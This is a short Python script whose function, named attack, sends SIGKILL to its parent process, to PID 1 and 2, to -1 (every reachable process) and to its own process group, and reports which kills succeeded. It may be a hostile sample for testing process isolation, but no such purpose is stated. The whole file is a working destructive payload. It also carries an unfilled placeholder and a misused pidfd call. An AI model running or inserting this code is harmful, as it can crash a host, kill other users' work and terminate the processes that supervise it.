"""Sends signals to its parent, to the first process, to all."""

import os
import signal


def attack():
    done = []
    for number in (os.getppid(), 1, 2, -1, 0, PARENT):
        try:
            os.kill(number, signal.SIGKILL)
            done.append(f"sent to {number}")
        except OSError:
            continue
    for send in (os.killpg, signal.pidfd_send_signal):
        try:
            send(os.getppid(), signal.SIGKILL)
            done.append("sent to a group")
        except OSError:
            continue
    return "; ".join(done)


PARENT = int("0PARENT") if "0PARENT".isdigit() else 1
